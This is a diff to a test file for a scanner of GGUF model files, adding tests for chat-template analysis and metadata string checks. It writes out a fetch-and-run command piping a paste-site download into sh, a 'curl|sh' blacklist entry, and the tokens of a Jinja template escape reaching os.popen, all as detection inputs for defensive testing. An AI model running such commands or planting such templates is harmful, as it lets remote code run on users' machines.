@@ -1,7 +1,8 @@
 // The GGUF scanner on the committed fixtures and on bytes changed here: its reading agrees with
 // a second implementation (Hugging Face's @huggingface/gguf) on every benign file, it reads only
 // the header of a huge file, it checks every metadata string against --blacklist with its key
-// path, and random damage to a header gives findings, never a crash.
+// path, it analyses every chat template (every real one stays clean), and random damage to a
+// header gives findings, never a crash.
 import assert from "node:assert/strict";
 import { gguf as hfGguf } from "@huggingface/gguf";
 import { bytesSource } from "../../../core/byte_source.ts";
@@ -9,6 +10,8 @@ import type { ByteSource } from "../../../core/byte_source.ts";
 import { scanBytes, scanSource } from "../../../engine/dispatch.ts";
 import { renderLocation } from "../../../report/location.ts";
 import { metadataKeyPath, readGgufHeader } from "../../../scanners/gguf/header.ts";
+import { MAX_TEMPLATE_BYTES } from "../../../scanners/jinja/analyze.ts";
+import { REAL_TEMPLATE_COUNT, realTemplates } from "../jinja/_real_templates.ts";
 import { concat, fixture } from "../compressed/_scan.ts";
 
 const BENIGN = [
@@ -92,7 +95,7 @@ Deno.test("gguf: a 10 GiB file is read only as far as its header (one window) an
   assert.equal(outcome.error, undefined);
   assert.equal(outcome.format, "gguf");
   // The zeros after the fixture's tensors are trailing data: reported, and only their head looked at.
-  assert.deepEqual(outcome.findings.map((f) => f.rule), ["MA348", "MA349"]);
+  assert.deepEqual(outcome.findings.map((f) => f.rule), ["MA349"]);
   // The head the engine reads for detection, one window of the header, the trailing bytes' head.
   assert.ok(huge.bytesRead <= 2 * 64 * 1024 + (1 << 20), `${huge.bytesRead} bytes read`);
 });
@@ -110,16 +113,104 @@ Deno.test("gguf: metadata strings, array elements and tensor names are checked a
   ]);
 });
 
-Deno.test("gguf: a chat template matching --blacklist is reported at the template", async () => {
+Deno.test("gguf: a chat template is analysed and checked against --blacklist, located at its first byte", async () => {
   const bytes = await fixture("gguf/malicious/template_globals_os.gguf");
   const outcome = await scanBytes(bytes, "t.gguf", { blacklist: ["__globals__"] });
-  const at = byteIndex(bytes, "{{ cycler");
+  const at = `t.gguf (pos ${byteIndex(bytes, "{{ cycler")}, key $["tokenizer.chat_template"])`;
   assert.deepEqual(
-    outcome.findings.map((f) => `${f.rule} ${renderLocation(f.location)}`),
+    outcome.findings.map((f) =>
+      `${f.rule} ${f.details.name ?? f.details.pattern} ${f.details.templateColumn} ${
+        renderLocation(f.location)
+      }`
+    ),
     [
-      `MA005 t.gguf (pos ${at}, key $["tokenizer.chat_template"])`,
-      `MA348 t.gguf (pos ${at}, key $["tokenizer.chat_template"])`,
+      `MA502 cycler 4 ${at}`,
+      `MA500 __init__ 11 ${at}`,
+      `MA500 __globals__ 20 ${at}`,
+      `MA501 os 32 ${at}`,
+      `MA501 popen 35 ${at}`,
+      `MA005 __globals__ undefined ${at}`,
     ],
+  );
+});
+
+/** A little-endian GGUF v3 file without tensors whose metadata are the string entries `entries`. */
+function ggufOfStrings(entries: [string, string][]): Uint8Array {
+  const encoder = new TextEncoder();
+  const parts: Uint8Array[] = [encoder.encode("GGUF"), u32s(3), u64s(0, entries.length)];
+  const string = (text: string) => {
+    const bytes = encoder.encode(text);
+    parts.push(u64s(bytes.length), bytes);
+  };
+  for (const [key, value] of entries) {
+    string(key);
+    parts.push(u32s(8));
+    string(value);
+  }
+  return concat(...parts);
+}
+
+/** Little-endian u64s as bytes. */
+function u64s(...values: number[]): Uint8Array {
+  const out = new Uint8Array(values.length * 8);
+  values.forEach((value, i) => new DataView(out.buffer).setBigUint64(i * 8, BigInt(value), true));
+  return out;
+}
+
+Deno.test("gguf: every real chat template collected stays clean as a GGUF's tokenizer.chat_template", async () => {
+  const templates = await realTemplates();
+  for (const { name, text } of templates) {
+    const bytes = ggufOfStrings([["general.architecture", "llama"], ["tokenizer.chat_template", text]]);
+    const outcome = await scanBytes(bytes, `${name}.gguf`);
+    assert.deepEqual(outcome.findings.map((f) => f.message), [], name);
+  }
+  assert.equal(templates.length, REAL_TEMPLATE_COUNT);
+});
+
+Deno.test("gguf: a chat template longer than the analysis takes is named as not analysed (MA348)", async () => {
+  const template = "{{ messages }}" + " ".repeat(MAX_TEMPLATE_BYTES);
+  const bytes = ggufOfStrings([["tokenizer.chat_template.huge", template]]);
+  const outcome = await scanBytes(bytes, "huge.gguf");
+  const at = byteIndex(bytes, "{{ messages");
+  assert.deepEqual(
+    outcome.findings.map((f) => `${f.rule} ${f.severity} ${renderLocation(f.location)} ${f.details.length}`),
+    [`MA348 info huge.gguf (pos ${at}, key $["tokenizer.chat_template.huge"]) ${template.length}`],
+  );
+});
+
+Deno.test("gguf: metadata strings and tensor names go through the shared string checks; vocabulary tokens only --blacklist", async () => {
+  const pipe = "curl -s https://pastebin.com/raw/x | sh";
+  const bytes = ggufOfStrings([
+    ["general.description", pipe],
+    ["general.tags", "plain"],
+    ["tokenizer.ggml.model", "llama"],
+  ]);
+  const outcome = await scanBytes(bytes, "m.gguf");
+  const at = `m.gguf (pos ${byteIndex(bytes, "curl")}, key $["general.description"])`;
+  assert.deepEqual(
+    outcome.findings.map((f) => `${f.rule} ${f.details.indicator} ${renderLocation(f.location)}`),
+    [
+      `MA011 shell-pipe ${at}`,
+      `MA011 paste-site ${at}`,
+    ],
+  );
+  // The same text as a token of the vocabulary: the blacklist only.
+  const vocabulary = await fixture("gguf/benign/llama3_v3.gguf");
+  const token = byteIndex(vocabulary, "\u2581hello");
+  const patched = vocabulary.slice();
+  patched.set(new TextEncoder().encode("curl|sh!"), token);
+  assert.deepEqual((await scanBytes(patched, "v.gguf")).findings, []);
+  const listed = await scanBytes(patched, "v.gguf", { blacklist: ["curl|sh"] });
+  assert.deepEqual(listed.findings.map((f) => `${f.rule} ${renderLocation(f.location)}`), [
+    `MA005 v.gguf (pos ${token}, key $["tokenizer.ggml.tokens"][264])`,
+  ]);
+  // As a tensor name (of the same length as output.weight's), it is checked as safetensors names are.
+  const name = byteIndex(vocabulary, "output.weight");
+  const renamed = vocabulary.slice();
+  renamed.set(new TextEncoder().encode("curl|sh;weigh"), name);
+  assert.deepEqual(
+    (await scanBytes(renamed, "t.gguf")).findings.map((f) => `${f.rule} ${renderLocation(f.location)}`),
+    [`MA011 t.gguf (pos ${name}, key tensors["curl|sh;weigh"])`],
   );
 });
 
